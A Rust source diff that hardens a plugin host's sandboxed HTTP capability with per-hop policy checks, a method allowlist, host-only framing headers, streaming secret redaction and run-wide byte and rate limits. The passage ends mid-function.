@@ -1,16 +1,29 @@
 //! The `http` import: every request and every redirect hop is checked against the grant
 //! (`http:<METHOD>` on the URL), credentials are substituted only after a `secret:Use`
 //! check for that very URL, and the run's limits (request count, rate, concurrency,
-//! response size, deadline) are enforced here.
+//! response size, bytes held at once, deadline) are enforced here.
+//!
+//! The guest does not frame requests: the method is one of [`METHODS`] and the headers
+//! that frame a request or name its target ([`HOST_HEADERS`], `Proxy-*`) are the host's
+//! (a guest `Content-Length` could smuggle a second request, never checked, onto a
+//! kept-alive connection).
+//!
+//! What the guest gets back is scrubbed of the run's secrets (and of the values derived
+//! from them that the request sent) in every form `secrets::Redactor` knows, when it
+//! comes from the provider: bodies, headers, a URL a redirect led to. Text the guest
+//! wrote itself (its URL, a header name) comes back verbatim: scrubbing it would tell
+//! the guest which of its guesses is a secret. What the host writes (log lines, the
+//! denials and limit hits of `summary.json`) is always scrubbed.
 
 use super::address::{CheckedResolver, StaticHosts, names_host, restricted_range};
 use super::{Event, RunContext, RunStats, StepCtx};
 use crate::bindings::http::{Auth, Host, HostBody, HttpError, Request, Response, ResponseHead};
 use crate::policy::{Context, EffectiveLimits};
+use crate::secrets::Redactor;
 use futures::future::join_all;
 use reqwest::header::{HeaderMap, HeaderName, HeaderValue};
-use std::sync::Arc;
-use std::sync::Mutex;
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::sync::{Arc, Mutex, PoisonError};
 use std::time::{Duration, Instant};
 use tokio::sync::{OwnedSemaphorePermit, Semaphore};
 use url::Url;
@@ -22,34 +35,72 @@ pub const MAX_REDIRECTS: usize = 10;
 pub const MAX_BATCH: usize = 1000;
 /// Timeout for a request that does not name one.
 const DEFAULT_TIMEOUT: Duration = Duration::from_secs(60);
+/// The methods a guest may use: no `CONNECT` (a tunnel), no `TRACE` (echoes the request,
+/// credentials included), no custom method an origin or a proxy may treat in ways the
+/// policy did not check.
+pub const METHODS: &[&str] = &["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"];
+/// Headers only the host sets (compared case-insensitively), besides any `Proxy-*`.
+pub const HOST_HEADERS: &[&str] = &[
+    "content-length",
+    "transfer-encoding",
+    "te",
+    "trailer",
+    "connection",
+    "keep-alive",
+    "upgrade",
+    "host",
+    "expect",
+];
+/// Most bytes allocated for a body before they arrive, whatever its announced size.
+const MAX_PREALLOCATED: u64 = 8 << 20;
+/// Requests per second outside this range are clamped: a zero, negative or NaN rate would
+/// never refill, and its wait would not fit a `Duration`.
+const RATE_RANGE: (f64, f64) = (0.001, 1e6);
 
-/// Per-run HTTP state: the shared client and the run's rate and concurrency limits.
+/// Per-run HTTP state: the shared client and the run's rate, concurrency and
+/// bytes-in-flight limits.
 pub struct HttpCapability {
     client: reqwest::Client,
     bucket: Mutex<TokenBucket>,
     concurrency: Arc<Semaphore>,
+    in_flight: Arc<InFlight>,
+}
+
+/// A request's URL and whose text it is: the guest's own is handed back verbatim, one a
+/// provider's redirect led to is scrubbed.
+#[derive(Clone)]
+struct Target {
+    url: Url,
+    from_guest: bool,
 }
 
 /// A response whose head has arrived: the body is still on the wire.
 struct Head {
     resp: reqwest::Response,
-    url: Url,
+    target: Target,
     /// Holds one of the run's concurrent-request slots until the body is read or dropped.
     permit: OwnedSemaphorePermit,
     /// When this request's own timeout ends.
     deadline: Instant,
-    /// Secret-bearing header values sent on the final hop, scrubbed from the answer.
-    sent_secrets: Vec<String>,
 }
 
 /// A body the guest reads as it streams (the WIT `body` resource).
 pub struct BodyStream {
     resp: reqwest::Response,
-    url: Url,
+    target: Target,
     _permit: OwnedSemaphorePermit,
+    /// Scrubbed, for the guest's next reads.
     pending: Vec<u8>,
+    /// Not yet scrubbed: the tail of what arrived, held back until the next piece shows
+    /// whether an echoed secret continues in it.
+    held: Vec<u8>,
+    ended: bool,
+    /// The error that ended the body early, repeated to every later read.
+    failed: Option<HttpError>,
     read: u64,
-    sent_secrets: Vec<String>,
+    scrub: Redactor,
+    /// `pending` and `held` against the run's bytes in flight.
+    hold: Reservation,
 }
 
 /// A run's client: no automatic redirects (the host follows them itself, so it can check
@@ -70,14 +121,74 @@ pub fn build_client(limits: &EffectiveLimits, hosts: StaticHosts) -> reqwest::Cl
 }
 
 impl HttpCapability {
+    /// Never panics on a limit's value: out-of-range ones are clamped.
     pub fn new(limits: &EffectiveLimits, hosts: StaticHosts) -> Self {
+        let permits = usize::try_from(limits.max_concurrent_requests)
+            .unwrap_or(usize::MAX)
+            .clamp(1, Semaphore::MAX_PERMITS);
         HttpCapability {
             client: build_client(limits, hosts),
             bucket: Mutex::new(TokenBucket::new(limits.requests_per_second)),
-            concurrency: Arc::new(Semaphore::new(
-                limits.max_concurrent_requests.max(1) as usize
-            )),
+            concurrency: Arc::new(Semaphore::new(permits)),
+            in_flight: Arc::new(InFlight {
+                limit: limits.max_in_flight_bytes,
+                used: AtomicU64::new(0),
+            }),
         }
+    }
+}
+
+/// The bytes of response bodies the run holds, against its limit.
+struct InFlight {
+    limit: u64,
+    used: AtomicU64,
+}
+
+/// Bytes of the run's budget held by one body (or one batch's bodies); given back when
+/// dropped.
+pub struct Reservation {
+    pool: Arc<InFlight>,
+    bytes: u64,
+}
+
+impl Reservation {
+    fn new(pool: &Arc<InFlight>) -> Self {
+        Reservation {
+            pool: pool.clone(),
+            bytes: 0,
+        }
+    }
+
+    /// Holds `total` bytes in all. Growing past the run's limit is refused at once (the
+    /// reservation keeps what it held): waiting could deadlock, since the bytes waited
+    /// for may be held by finished bodies of the same batch.
+    fn resize(&mut self, total: u64) -> bool {
+        if total <= self.bytes {
+            self.pool
+                .used
+                .fetch_sub(self.bytes - total, Ordering::SeqCst);
+            self.bytes = total;
+            return true;
+        }
+        let extra = total - self.bytes;
+        let limit = self.pool.limit;
+        let grown = self
+            .pool
+            .used
+            .fetch_update(Ordering::SeqCst, Ordering::SeqCst, |used| {
+                used.checked_add(extra).filter(|&n| n <= limit)
+            })
+            .is_ok();
+        if grown {
+            self.bytes = total;
+        }
+        grown
+    }
+}
+
+impl Drop for Reservation {
+    fn drop(&mut self) {
+        self.pool.used.fetch_sub(self.bytes, Ordering::SeqCst);
     }
 }
 
@@ -90,6 +201,12 @@ struct TokenBucket {
 
 impl TokenBucket {
     fn new(rate: f64) -> Self {
+        let (min, max) = RATE_RANGE;
+        let rate = if rate.is_nan() {
+            min
+        } else {
+            rate.clamp(min, max)
+        };
         TokenBucket {
             rate,
             tokens: rate.max(1.0),
@@ -108,7 +225,8 @@ impl TokenBucket {
             self.tokens -= 1.0;
             Ok(())
         } else {
-            Err(Duration::from_secs_f64((1.0 - self.tokens) / self.rate))
+            let wait = (1.0 - self.tokens) / self.rate;
+            Err(Duration::try_from_secs_f64(wait).unwrap_or(Duration::MAX))
         }
     }
 }
@@ -117,50 +235,99 @@ impl TokenBucket {
 struct Call<'a> {
     run: &'a RunContext,
     step: &'a str,
+    /// The run's secrets and the values derived from them that this request sent.
+    scrub: Mutex<Redactor>,
 }
 
-impl Call<'_> {
+impl<'a> Call<'a> {
+    fn new(run: &'a RunContext, step: &'a str) -> Self {
+        Self::scrubbing(run, step, run.secrets.redactor())
+    }
+
+    fn scrubbing(run: &'a RunContext, step: &'a str, scrub: Redactor) -> Self {
+        Call {
+            run,
+            step,
+            scrub: Mutex::new(scrub),
+        }
+    }
+
+    /// Runs `f` with the request's redactor (the lock is never held past it).
+    fn with_redactor<R>(&self, f: impl FnOnce(&mut Redactor) -> R) -> R {
+        f(&mut self.scrub.lock().unwrap_or_else(PoisonError::into_inner))
+    }
+
+    fn scrub(&self, text: &str) -> String {
+        self.with_redactor(|r| r.redact(text))
+    }
+
+    /// `text` about `target` as the guest may see it: verbatim if the guest wrote the
+    /// URL, scrubbed if a provider's redirect led there.
+    fn shown_text(&self, target: &Target, text: &str) -> String {
+        if target.from_guest {
+            text.to_string()
+        } else {
+            self.scrub(text)
+        }
+    }
+
+    fn shown(&self, target: &Target) -> String {
+        self.shown_text(target, target.url.as_str())
+    }
+
+    /// Counts and logs a denial or limit hit, scrubbed: the guest never reads these.
     fn record(&self, list: &Mutex<Vec<Event>>, action: &str, resource: &str, rule: &str) {
+        let (resource, rule) = (self.scrub(resource), self.scrub(rule));
+        let msg = format!("{action} {resource}: {rule}");
         RunStats::record(
             list,
             Event {
                 step: self.step.to_string(),
                 action: action.to_string(),
-                resource: resource.to_string(),
-                rule: rule.to_string(),
+                resource,
+                rule,
             },
         );
-        let msg = format!("{action} {resource}: {rule}");
         self.run.log.host(self.run, self.step, "warn", &msg);
     }
 
+    /// A refusal; `resource` and `rule` as the guest may see them.
     fn deny(&self, action: &str, resource: &str, rule: &str) -> HttpError {
         self.record(&self.run.stats.denials, action, resource, rule);
         HttpError::Denied(format!("{action} {resource} denied: {rule}"))
     }
 
-    fn limit(&self, what: &str, resource: &str) -> HttpError {
-        self.record(&self.run.stats.limit_hits, "http", resource, what);
+    /// A limit hit; `what` is host text.
+    fn limit(&self, what: &str, target: &Target) -> HttpError {
+        self.record(
+            &self.run.stats.limit_hits,
+            "http",
+            target.url.as_str(),
+            what,
+        );
         HttpError::RateLimited(what.to_string())
     }
 
     /// Every hop checked and sent until a response that is not a redirect.
     async fn fetch_head(&self, req: &Request) -> Result<Head, HttpError> {
         let mut method = parse_method(&req.method)?;
-        let mut url = parse_url(&req.url)?;
+        let headers = guest_headers(&req.headers)?;
+        let mut target = Target {
+            url: parse_url(&req.url)?,
+            from_guest: true,
+        };
         let mut body = req.body.clone();
         for _hop in 0..=MAX_REDIRECTS {
-            let (headers, sent_secrets) = self.authorize(&method, &url, req)?;
+            let sent = self.authorize(&method, &target, &headers, &req.auth)?;
             let (resp, permit, deadline) = self
-                .send(&method, &url, headers, body.clone(), req.timeout_ms)
+                .send(&method, &target, sent, body.clone(), req.timeout_ms)
                 .await?;
-            let Some(next) = redirect_target(&resp, &url) else {
+            let Some(next) = redirect_target(&resp, &target.url) else {
                 return Ok(Head {
                     resp,
-                    url,
+                    target,
                     permit,
                     deadline,
-                    sent_secrets,
                 });
             };
             // 303, and 301/302 after a POST, turn into a GET without a body (as browsers do).
@@ -169,7 +336,10 @@ impl Call<'_> {
                 method = reqwest::Method::GET;
                 body = None;
             }
-            url = next;
+            target = Target {
+                url: next,
+                from_guest: false,
+            };
         }
         Err(HttpError::Invalid(format!(
             "more than {MAX_REDIRECTS} redirects from {}",
@@ -178,44 +348,49 @@ impl Call<'_> {
     }
 
     /// One whole request: head, then the body read while it streams, within the
-    /// request's timeout and `maxResponseBytes`.
-    async fn fetch(&self, req: Request) -> Result<Response, HttpError> {
+    /// request's timeout, `maxResponseBytes` and the run's bytes in flight. The body's
+    /// bytes stay reserved while the caller holds the reservation.
+    async fn fetch(&self, req: Request) -> Result<(Response, Reservation), HttpError> {
         let head = self.fetch_head(&req).await?;
         let (status, headers) = self.head_parts(&head.resp);
-        let max = self.run.grant.limits.max_response_bytes;
-        let url = head.url.clone();
-        let body = tokio::time::timeout_at(head.deadline.into(), self.read(&url, head.resp, max))
+        let mut hold = Reservation::new(&self.run.http.in_flight);
+        let reading = self.read(&head.target, head.resp, &mut hold);
+        let body = tokio::time::timeout_at(head.deadline.into(), reading)
             .await
-            .map_err(|_| HttpError::Timeout(format!("{url} did not finish its body in time")))??;
+            .map_err(|_| {
+                let url = self.shown(&head.target);
+                HttpError::Timeout(format!("{url} did not finish its body in time"))
+            })??;
         let resp = Response {
             status,
             headers,
-            body: self.run.secrets.redact_bytes(body),
-            url: url.to_string(),
+            body: self.with_redactor(|r| r.redact_bytes(body)),
+            url: self.shown(&head.target),
         };
-        Ok(redact_sent(resp, &head.sent_secrets))
+        Ok((resp, hold))
     }
 
     /// The head of a request whose body the guest will read as it streams.
     async fn fetch_streaming(&self, req: Request) -> Result<(ResponseHead, BodyStream), HttpError> {
         let head = self.fetch_head(&req).await?;
         let (status, headers) = self.head_parts(&head.resp);
-        let headers = headers
-            .into_iter()
-            .map(|(k, v)| (k, redact_values(&v, &head.sent_secrets)))
-            .collect();
         let max = self.run.grant.limits.max_response_bytes;
         if head.resp.content_length().is_some_and(|n| n > max) {
-            return Err(self.too_large(&head.url, max));
+            return Err(self.too_large(&head.target, max));
         }
-        let url = head.url.to_string();
+        let url = self.shown(&head.target);
+        let scrub = self.with_redactor(|r| r.clone());
         let body = BodyStream {
             resp: head.resp,
-            url: head.url,
+            target: head.target,
             _permit: head.permit,
             pending: Vec::new(),
+            held: Vec::new(),
+            ended: false,
+            failed: None,
             read: 0,
-            sent_secrets: head.sent_secrets,
+            scrub,
+            hold: Reservation::new(&self.run.http.in_flight),
         };
         Ok((
             ResponseHead {
@@ -227,115 +402,127 @@ impl Call<'_> {
         ))
     }
 
-    /// Status and headers (secret values scrubbed).
+    /// Status and headers, names and values scrubbed.
     fn head_parts(&self, resp: &reqwest::Response) -> (u16, Vec<(String, String)>) {
-        let headers = resp
-            .headers()
-            .iter()
-            .map(|(k, v)| {
-                (
-                    k.to_string(),
-                    self.run
-                        .secrets
-                        .redact(&String::from_utf8_lossy(v.as_bytes())),
-                )
-            })
-            .collect();
+        let headers = self.with_redactor(|scrub| {
+            resp.headers()
+                .iter()
+                .map(|(k, v)| {
+                    let value = String::from_utf8_lossy(v.as_bytes());
+                    (scrub.redact(k.as_str()), scrub.redact(&value))
+                })
+                .collect()
+        });
         (resp.status().as_u16(), headers)
     }
 
     /// The next piece of a streamed body, at most `max` bytes; empty at the end.
     async fn read_stream(&self, body: &mut BodyStream, max: u32) -> Result<Vec<u8>, HttpError> {
-        let limit = self.run.grant.limits.max_response_bytes;
-        if body.pending.is_empty() {
-            let next = tokio::time::timeout_at(self.run.deadline.into(), body.resp.chunk())
-                .await
-                .map_err(|_| {
-                    HttpError::Timeout(format!(
-                        "the run's deadline passed while reading {}",
-                        body.url
-                    ))
-                })?
-                .map_err(|e| self.transport_error(&body.url, e))?;
-            let Some(chunk) = next else {
-                return Ok(Vec::new());
-            };
-            body.read += chunk.len() as u64;
-            if body.read > limit {
-                return Err(self.too_large(&body.url, limit));
+        while body.pending.is_empty() && !body.ended {
+            if let Some(e) = &body.failed {
+                return Err(e.clone());
             }
-            // Scrubbed per chunk: a secret split across two chunks is not caught (see
-            // docs/security.md).
-            let chunk = self.run.secrets.redact_bytes(chunk.to_vec());
-            body.pending = body
-                .sent_secrets
-                .iter()
-                .fold(chunk, |c, s| crate::secrets::replace_all(c, s.as_bytes()));
+            if let Err(e) = self.pull(body).await {
+                // Nothing more of this body is held or handed out.
+                (body.pending, body.held) = (Vec::new(), Vec::new());
+                body.hold.resize(0);
+                body.failed = Some(e.clone());
+                return Err(e);
+            }
         }
         let n = (max.max(1) as usize).min(body.pending.len());
-        Ok(body.pending.drain(..n).collect())
+        let piece = body.pending.drain(..n).collect();
+        body.hold
+            .resize((body.pending.len() + body.held.len()) as u64);
+        Ok(piece)
     }
 
-    /// The policy check for one hop, then the headers with secrets substituted, and the
-    /// header values that carry a secret (to scrub from the answer: a provider echoing
-    /// `Basic <base64>` back would otherwise hand the guest a decodable credential).
+    /// Reads one network chunk of a streamed body and scrubs what of it can no longer
+    /// be the start of an echoed secret; the rest is held back for the next chunk.
+    async fn pull(&self, body: &mut BodyStream) -> Result<(), HttpError> {
+        let next = tokio::time::timeout_at(self.run.deadline.into(), body.resp.chunk())
+            .await
+            .map_err(|_| {
+                let url = self.shown(&body.target);
+                HttpError::Timeout(format!("the run's deadline passed while reading {url}"))
+            })?
+            .map_err(|e| self.transport_error(&body.target, e))?;
+        if let Some(chunk) = &next {
+            let limit = self.run.grant.limits.max_response_bytes;
+            body.read += chunk.len() as u64;
+            if body.read > limit {
+                return Err(self.too_large(&body.target, limit));
+            }
+            let holding = body.pending.len() + body.held.len() + chunk.len();
+            if !body.hold.resize(holding as u64) {
+                return Err(self.in_flight_hit(&body.target));
+            }
+        }
+        body.ended = next.is_none();
+        body.pending = scrub_stream(&body.scrub, &mut body.held, next.as_deref());
+        Ok(())
+    }
+
+    /// The policy check for one hop, then the headers with secrets substituted. A value
+    /// derived from a secret (the base64 of `Basic` credentials) joins the request's
+    /// redactor: a provider echoing it back would otherwise hand the guest a decodable
+    /// credential.
     fn authorize(
         &self,
         method: &reqwest::Method,
-        url: &Url,
-        req: &Request,
-    ) -> Result<(HeaderMap, Vec<String>), HttpError> {
+        target: &Target,
+        guest: &[(HeaderName, &str)],
+        auth: &Auth,
+    ) -> Result<HeaderMap, HttpError> {
+        let url = &target.url;
         let action = format!("http:{method}");
         let ctx = Context::http(method.as_str(), url);
         let decision = self.run.grant.check(&action, url.as_str(), &ctx);
         if !decision.allowed {
-            return Err(self.deny(&action, url.as_str(), &decision.rule));
+            return Err(self.deny(&action, &self.shown(target), &decision.rule));
         }
-        self.check_address(&action, url, &decision.allowing)?;
+        self.check_address(&action, target, &decision.allowing)?;
         let mut headers = HeaderMap::new();
-        let mut sent_secrets = Vec::new();
-        for (name, value) in &req.headers {
-            let name = HeaderName::from_bytes(name.as_bytes())
-                .map_err(|_| HttpError::Invalid(format!("invalid header name {name:?}")))?;
-            if name == reqwest::header::HOST {
-                return Err(HttpError::Invalid(
-                    "the Host header is set by the host from the URL".into(),
-                ));
-            }
-            let substituted = self.substitute(value, url, &ctx)?;
-            if &substituted != value {
-                sent_secrets.push(substituted.clone());
-            }
-            headers.append(name, header_value(&substituted)?);
+        for (name, value) in guest {
+            let substituted = self.substitute(value, target, &ctx)?;
+            headers.append(name.clone(), header_value(name.as_str(), &substituted)?);
         }
-        match &req.auth {
+        match auth {
             Auth::None => {}
             Auth::Bearer(secret) => {
-                let token = self.secret(secret, url, &ctx)?;
+                let token = self.secret(secret, target, &ctx)?;
                 let value = format!("Bearer {token}");
-                headers.insert(reqwest::header::AUTHORIZATION, header_value(&value)?);
-                sent_secrets.push(value);
+                headers.insert(
+                    reqwest::header::AUTHORIZATION,
+                    header_value("Authorization", &value)?,
+                );
             }
             Auth::Basic(b) => {
-                let password = self.secret(&b.password_secret, url, &ctx)?;
+                let password = self.secret(&b.password_secret, target, &ctx)?;
                 let encoded = base64_encode(format!("{}:{password}", b.username).as_bytes());
                 headers.insert(
                     reqwest::header::AUTHORIZATION,
-                    header_value(&format!("Basic {encoded}"))?,
+                    header_value("Authorization", &format!("Basic {encoded}"))?,
                 );
-                sent_secrets.push(encoded);
+                self.with_redactor(|r| r.add(&encoded));
             }
         }
-        Ok((headers, sent_secrets))
+        Ok(headers)
     }
 
     /// Refuses an IP literal in a restricted range (and `localhost`) unless private
     /// networks are allowed or the allowing rule names that host itself. Hostnames are
     /// checked again after DNS by the client's resolver.
-    fn check_address(&self, action: &str, url: &Url, allowing: &[String]) -> Result<(), HttpError> {
+    fn check_address(
+        &self,
+        action: &str,
+        target: &Target,
+        allowing: &[String],
+    ) -> Result<(), HttpError> {
         if self.run.grant.limits.allow_private_networks {
             return Ok(());
         }
+        let url = &target.url;
         let host = url.host_str().unwrap_or_default();
         let range = match url.host() {
             Some(url::Host::Ipv4(ip)) => restricted_range(ip.into()),
@@ -350,19 +537,16 @@ impl Call<'_> {
         let rule = format!(
             "{host} is a {range} address; allowPrivateNetworks is false and the allowing rule does not name {host} itself"
         );
-        Err(self.deny(action, url.as_str(), &rule))
+        Err(self.deny(action, &self.shown(target), &self.shown_text(target, &rule)))
     }
 
     /// The value of a secret, after `secret:Use` on `secret:<name>` for this URL.
-    fn secret(&self, name: &str, url: &Url, ctx: &Context) -> Result<String, HttpError> {
+    fn secret(&self, name: &str, target: &Target, ctx: &Context) -> Result<String, HttpError> {
         let resource = format!("secret:{name}");
         let decision = self.run.grant.check("secret:Use", &resource, ctx);
         if !decision.allowed {
-            return Err(self.deny(
-                "secret:Use",
-                &resource,
-                &format!("{} (for {url})", decision.rule),
-            ));
+            let rule = format!("{} (for {})", decision.rule, self.shown(target));
+            return Err(self.deny("secret:Use", &resource, &rule));
         }
         let value = self.run.secrets.get(name).ok_or_else(|| {
             HttpError::Invalid(format!(
@@ -373,7 +557,12 @@ impl Call<'_> {
     }
 
     /// Replaces every `{{secret:NAME}}` in a header value.
-    fn substitute(&self, template: &str, url: &Url, ctx: &Context) -> Result<String, HttpError> {
+    fn substitute(
+        &self,
+        template: &str,
+        target: &Target,
+        ctx: &Context,
+    ) -> Result<String, HttpError> {
         let mut out = String::new();
         let mut rest = template;
         while let Some(start) = rest.find("{{secret:") {
@@ -381,7 +570,7 @@ impl Call<'_> {
                 .find("}}")
                 .ok_or_else(|| HttpError::Invalid("unclosed {{secret:…}} in a header".into()))?;
             out.push_str(&rest[..start]);
-            out.push_str(&self.secret(rest[start + 9..start + end].trim(), url, ctx)?);
+            out.push_str(&self.secret(rest[start + 9..start + end].trim(), target, ctx)?);
             rest = &rest[start + end + 2..];
         }
         out.push_str(rest);
@@ -393,7 +582,7 @@ impl Call<'_> {
     async fn send(
         &self,
         method: &reqwest::Method,
-        url: &Url,
+        target: &Target,
         headers: HeaderMap,
         body: Option<Vec<u8>>,
         timeout_ms: Option<u32>,
@@ -401,7 +590,7 @@ impl Call<'_> {
         let limits = &self.run.grant.limits;
         if self.run.stats.count_request() > limits.max_requests {
             let what = format!("maxRequests limit of {} reached", limits.max_requests);
-            return Err(self.limit(&what, url.as_str()));
+            return Err(self.limit(&what, target));
         }
         let permit = self
             .run
@@ -410,8 +599,9 @@ impl Call<'_> {
             .clone()
             .acquire_owned()
             .await
-            .expect("the semaphore is never closed");
-        self.wait_for_token().await;
+            .map_err(|_| HttpError::RateLimited("the run's requests are closed".into()))?;
+        self.wait_for_token().await?;
+        let url = self.shown(target);
         let remaining = self.run.deadline.saturating_duration_since(Instant::now());
         if remaining.is_zero() {
             return Err(HttpError::Timeout(format!(
@@ -427,7 +617,7 @@ impl Call<'_> {
             .run
             .http
             .client
-            .request(method.clone(), url.clone())
+            .request(method.clone(), target.url.clone())
             .headers(headers);
         if let Some(b) = body {
             builder = builder.body(b);
@@ -440,69 +630,127 @@ impl Call<'_> {
                     timeout.as_millis()
                 ))
             })?
-            .map_err(|e| self.transport_error(url, e))?;
+            .map_err(|e| self.transport_error(target, e))?;
         Ok((resp, permit, deadline))
     }
 
-    async fn wait_for_token(&self) {
+    /// Waits for the rate limit's next token; fails at once if it comes after the run's
+    /// deadline.
+    async fn wait_for_token(&self) -> Result<(), HttpError> {
         loop {
-            let wait = match self.run.http.bucket.lock().unwrap().take() {
-                Ok(()) => return,
+            let bucket = &self.run.http.bucket;
+            let wait = match bucket.lock().unwrap_or_else(PoisonError::into_inner).take() {
+                Ok(()) => return Ok(()),
                 Err(wait) => wait,
             };
+            if Instant::now()
+                .checked_add(wait)
+                .is_none_or(|t| t > self.run.deadline)
+            {
+                return Err(HttpError::Timeout(format!(
+                    "the run's deadline passes before requestsPerSecond ({}) allows another request",
+                    self.run.grant.limits.requests_per_second
+                )));
+            }
             tokio::time::sleep(wait).await;
         }
     }
 
-    /// Reads the body while it streams, stopping as soon as it passes `max` bytes.
+    /// Reads the body while it streams, stopping as soon as it passes
+    /// `maxResponseBytes` or the run's bytes in flight.
     async fn read(
         &self,
-        url: &Url,
+        target: &Target,
         mut resp: reqwest::Response,
-        max: u64,
+        hold: &mut Reservation,
     ) -> Result<Vec<u8>, HttpError> {
-        if resp.content_length().is_some_and(|n| n > max) {
-            return Err(self.too_large(url, max));
+        let max = self.run.grant.limits.max_response_bytes;
+        let announced = resp.content_length().unwrap_or(0);
+        if announced > max {
+            return Err(self.too_large(target, max));
         }
-        let mut body = Vec::new();
+        // A body of announced size is reserved whole before any of it is read.
+        if !hold.resize(announced) {
+            return Err(self.in_flight_hit(target));
+        }
+        let mut body = Vec::with_capacity(announced.min(MAX_PREALLOCATED) as usize);
         while let Some(chunk) = resp
             .chunk()
             .await
-            .map_err(|e| self.transport_error(url, e))?
+            .map_err(|e| self.transport_error(target, e))?
         {
-            if body.len() as u64 + chunk.len() as u64 > max {
-                return Err(self.too_large(url, max));
+            let len = body.len() as u64 + chunk.len() as u64;
+            if len > max {
+                return Err(self.too_large(target, max));
+            }
+            if len > hold.bytes && !hold.resize(len) {
+                return Err(self.in_flight_hit(target));
             }
             body.extend_from_slice(&chunk);
         }
         Ok(body)
     }
 
-    fn too_large(&self, url: &Url, max: u64) -> HttpError {
+    fn too_large(&self, target: &Target, max: u64) -> HttpError {
         self.record(
             &self.run.stats.limit_hits,
             "http",
-            url.as_str(),
+            target.url.as_str(),
             &format!("maxResponseBytes limit of {max} reached"),
         );
         HttpError::TooLarge(max)
     }
 
-    fn transport_error(&self, url: &Url, e: reqwest::Error) -> HttpError {
+    fn in_flight_hit(&self, target: &Target) -> HttpError {
+        let what = format!(
+            "maxInFlightBytes limit of {} reached: the run already holds that many bytes of response bodies",
+            self.run.http.in_flight.limit
+        );
+        self.limit(&what, target)
+    }
+
+    fn transport_error(&self, target: &Target, e: reqwest::Error) -> HttpError {
         if let Some(r) = find_source::<super::address::RestrictedAddress>(&e) {
-            return self.deny("http:connect", url.as_str(), &r.to_string());
+            let rule = self.shown_text(target, &r.to_string());
+            return self.deny("http:connect", &self.shown(target), &rule);
         }
-        // reqwest's messages can carry the URL but never headers; scrub anyway.
-        let text = self
-            .run
-            .secrets
-            .redact(&format!("{url}: {}", error_chain(&e)));
-        if e.is_timeout() {
+        let timeout = e.is_timeout();
+        // The URL once, as the guest may see it; reqwest's own copy is left out, and the
+        // rest (the OS's or the provider's words) is scrubbed.
+        let cause = self.scrub(&error_chain(&e.without_url()));
+        let text = format!("{}: {cause}", self.shown(target));
+        if timeout {
             HttpError::Timeout(text)
         } else {
             HttpError::Connect(text)
         }
     }
+}
+
+/// What of a streamed body can go to the guest once `chunk` arrived (`None`: the body
+/// ended), scrubbed; the rest stays in `held` for the next chunk.
+fn scrub_stream(scrub: &Redactor, held: &mut Vec<u8>, chunk: Option<&[u8]>) -> Vec<u8> {
+    let cut = match chunk {
+        Some(c) => {
+            held.extend_from_slice(c);
+            safe_cut(scrub, held)
+        }
+        None => held.len(),
+    };
+    let ready: Vec<u8> = held.drain(..cut).collect();
+    scrub.redact_bytes(ready)
+}
+
+/// How much of a streamed body's unscrubbed bytes can go to the guest: all but the last
+/// `max_span`, where an echoed secret may continue in the next chunk, and never through
+/// the middle of a secret found.
+fn safe_cut(scrub: &Redactor, held: &[u8]) -> usize {
+    let cut = held.len().saturating_sub(scrub.max_span());
+    scrub
+        .find(held)
+        .into_iter()
+        .find(|s| s.start < cut && cut < s.end)
+        .map_or(cut, |s| s.end)
 }
 
 pub fn find_source<'a, T: std::error::Error + 'static>(
@@ -529,33 +777,33 @@ pub fn error_chain(e: &dyn std::error::Error) -> String {
     out
 }
 
-fn redact_values(text: &str, sent: &[String]) -> String {
-    sent.iter()
-        .filter(|v| v.len() >= 4)
-        .fold(text.to_string(), |t, v| {
-            t.replace(v.as_str(), crate::secrets::REDACTED)
-        })
-}
-
-/// The response with every secret-bearing header value this hop sent scrubbed out.
-fn redact_sent(mut resp: Response, sent: &[String]) -> Response {
-    for value in sent {
-        resp.body = crate::secrets::replace_all(std::mem::take(&mut resp.body), value.as_bytes());
-    }
-    for (_, v) in resp.headers.iter_mut() {
-        *v = redact_values(v, sent);
-    }
-    resp
-}
-
 fn parse_method(m: &str) -> Result<reqwest::Method, HttpError> {
-    if m.is_empty() || !m.bytes().all(|b| b.is_ascii_uppercase()) {
+    if !METHODS.contains(&m) {
         return Err(HttpError::Invalid(format!(
-            "invalid method {m:?}: use an upper-case token such as GET"
+            "method {m:?} is not allowed: use one of {}",
+            METHODS.join(", ")
         )));
     }
     reqwest::Method::from_bytes(m.as_bytes())
         .map_err(|_| HttpError::Invalid(format!("invalid method {m:?}")))
+}
+
+/// The guest's headers, checked: names valid and none of the host's own.
+fn guest_headers(headers: &[(String, String)]) -> Result<Vec<(HeaderName, &str)>, HttpError> {
+    headers
+        .iter()
+        .map(|(name, value)| {
+            let lower = name.to_ascii_lowercase();
+            if HOST_HEADERS.contains(&lower.as_str()) || lower.starts_with("proxy-") {
+                return Err(HttpError::Invalid(format!(
+                    "the {name} header is set by the host, not the plugin"
+                )));
+            }
+            let name = HeaderName::from_bytes(name.as_bytes())
+                .map_err(|_| HttpError::Invalid(format!("invalid header name {name:?}")))?;
+            Ok((name, value.as_str()))
+        })
+        .collect()
 }
 
 fn parse_url(u: &str) -> Result<Url, HttpError> {
@@ -573,8 +821,10 @@ fn parse_url(u: &str) -> Result<Url, HttpError> {
     Ok(url)
 }
 
-fn header_value(v: &str) -> Result<HeaderValue, HttpError> {
-    HeaderValue::from_str(v).map_err(|_| HttpError::Invalid("invalid header value".into()))
+/// A header value; the error names the header, never the value (it may hold a secret).
+fn header_value(name: &str, v: &str) -> Result<HeaderValue, HttpError> {
+    HeaderValue::from_str(v)
+        .map_err(|_| HttpError::Invalid(format!("invalid value for the {name} header")))
 }
 
 /// The next URL if this is a redirect with a usable `Location`.
@@ -613,11 +863,8 @@ fn base64_encode(input: &[u8]) -> String {
 
 impl Host for StepCtx {
     async fn fetch(&mut self, req: Request) -> Result<Response, HttpError> {
-        let call = Call {
-            run: &self.run,
-            step: &self.step,
-        };
-        call.fetch(req).await
+        let call = Call::new(&self.run, &self.step);
+        call.fetch(req).await.map(|(resp, _hold)| resp)
     }
 
     async fn fetch_batch(&mut self, reqs: Vec<Request>) -> Vec<Result<Response, HttpError>> {
@@ -631,21 +878,28 @@ impl Host for StepCtx {
                 .map(|_| Err(HttpError::Invalid(msg.clone())))
                 .collect();
         }
-        let call = Call {
-            run: &self.run,
-            step: &self.step,
-        };
-        join_all(reqs.into_iter().map(|r| call.fetch(r))).await
+        let (run, step) = (&*self.run, self.step.as_str());
+        let outcomes = join_all(
+            reqs.into_iter()
+                .map(|r| async move { Call::new(run, step).fetch(r).await }),
